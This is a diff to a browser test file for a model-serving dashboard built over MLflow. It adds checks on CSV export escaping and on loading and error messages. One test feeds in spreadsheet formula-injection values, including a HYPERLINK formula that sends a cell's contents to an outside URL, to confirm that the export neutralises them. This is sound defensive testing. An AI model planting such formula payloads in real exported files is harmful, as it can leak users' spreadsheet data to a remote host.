@@ -311,7 +311,7 @@ test("a file of more runs than it may hold is refused, not cut", async () => {
   await page.close();
 });
 
-test("files keep every digit, quote what needs it, and say NaN", async () => {
+test("files keep every digit, quote what needs it, say NaN, and run no formula", async () => {
   const { run } = await server.mlflow("runs/create", {
     experiment_id: "0",
     run_name: "files",
@@ -329,6 +329,10 @@ test("files keep every digit, quote what needs it, and say NaN", async () => {
     params: [
       { key: "note", value: 'a "quoted", word\nand a line' },
       { key: "rate", value: "=1+1" },
+      { key: "shift", value: "-1.5e-3" },
+      { key: "-rate", value: '+HYPERLINK("http://x/?"&A1)' },
+      { key: "way", value: "-1 2" },
+      { key: "tab", value: "\tx" },
     ],
     tags: [],
   });
@@ -349,7 +353,10 @@ test("files keep every digit, quote what needs it, and say NaN", async () => {
   });
   assert.deepEqual(await csv("Parameters of the run"), {
     name: `slipway-runs-${id}-parameters.csv`,
-    text: 'name,value\r\nnote,"a ""quoted"", word\nand a line"\r\nrate,=1+1\r\n',
+    text:
+      `name,value\r\n'-rate,"'+HYPERLINK(""http://x/?""&A1)"\r\n` +
+      'note,"a ""quoted"", word\nand a line"\r\n' +
+      "rate,'=1+1\r\nshift,-1.5e-3\r\ntab,'\tx\r\nway,'-1 2\r\n",
   });
   assert.equal(
     (await csv("Last value of each metric")).text,
@@ -501,6 +508,81 @@ spec:
   await view.shot("held");
   server.cli("endpoint", "release", "late");
   await held.waitFor({ state: "detached" });
+
+  // In a file an alias is a name, and counters are numbers.
+  const lines = async (name) =>
+    (await view.saved(page.getByRole("button", { name: `CSV of: ${name}` }))).text.split("\r\n");
+  const moves = await lines("Every move and refusal");
+  assert.match(moves[1], /^[^,]*,champion,2 → 1,/);
+  await view.visit("/endpoints");
+  assert.match((await lines("What answers"))[1], /^late,late,champion,1,/);
+  await view.visit(`/rollouts/${rollout}`);
+  const { steps } = await server.ask("GET", `/api/slipway/v1/rollouts/${rollout}`);
+  const [head, first] = await lines("Steps");
+  assert.equal(
+    head,
+    "step,weight,since," +
+      "challenger error bad,challenger error n,challenger nan bad,challenger nan n," +
+      "champion error bad,champion error n,champion nan bad,champion nan n",
+  );
+  const counted = ["challenger", "champion"].flatMap((arm) =>
+    ["error", "nan"].flatMap((loss) => {
+      const { bad, good } = steps[0].counters[loss][arm];
+      return [bad, bad + good];
+    }),
+  );
+  assert.deepEqual(first.split(",").slice(3), counted.map(String));
+  view.check();
+  await page.close();
+});
+
+test("a version that is loading is said quietly, one that cannot be served loudly", async () => {
+  const view = await openPage(browser, server),
+    { page } = view;
+  let loading = true;
+  await page.route("**/api/slipway/v1/endpoints/late", async (route) => {
+    const answer = await (await route.fetch()).json();
+    const problem = loading ? "version 3 is loading" : "version 3 cannot be served: it is gone";
+    return route.fulfill({ json: { ...answer, problem, loading } });
+  });
+  await view.visit("/endpoints/late");
+  await page.getByRole("status").filter({ hasText: "version 3 is loading" }).waitFor();
+  assert.equal(await page.getByRole("alert").count(), 0);
+  await view.accessible("an endpoint that is loading");
+  loading = false;
+  await page.getByRole("alert").filter({ hasText: "it is gone" }).waitFor();
+  view.check();
+  await page.close();
+});
+
+test("a file that cannot be had says why, beside its link", async () => {
+  await server.mlflow("registered-models/create", { name: "far" });
+  const { run } = await registerVersion(server, "far", "classifier.onnx");
+  const view = await openPage(browser, server),
+    { page } = view;
+  view.tolerate(/status of (401|500)|ERR_FAILED/);
+  await page.setExtraHTTPHeaders({ "X-Forwarded-For": "203.0.113.9" });
+  await view.visit(`/runs/${run}`);
+  await page.locator("input[name=token]").fill(server.token());
+  await page.keyboard.press("Enter");
+  await page.getByText("model/").click();
+  const link = page.getByRole("link", { name: "classifier.onnx" }),
+    files = "**/mlflow-artifacts/artifacts/**";
+  await link.waitFor();
+  await page.route(files, (route) =>
+    route.fulfill({ status: 500, json: { error_code: "INTERNAL_ERROR", message: "a bad disk" } }),
+  );
+  await link.click();
+  await page.getByRole("status").filter({ hasText: "a bad disk" }).waitFor();
+  await page.unroute(files);
+  await page.route(files, (route) => route.abort());
+  await link.click();
+  await page.getByRole("status").filter({ hasText: "the server does not answer" }).waitFor();
+  await page.unroute(files);
+  const { name, text } = await view.saved(link);
+  assert.equal(name, "classifier.onnx");
+  assert.ok(text.length > 100);
+  assert.equal(await page.getByText("the server does not answer").count(), 0);
   view.check();
   await page.close();
 });
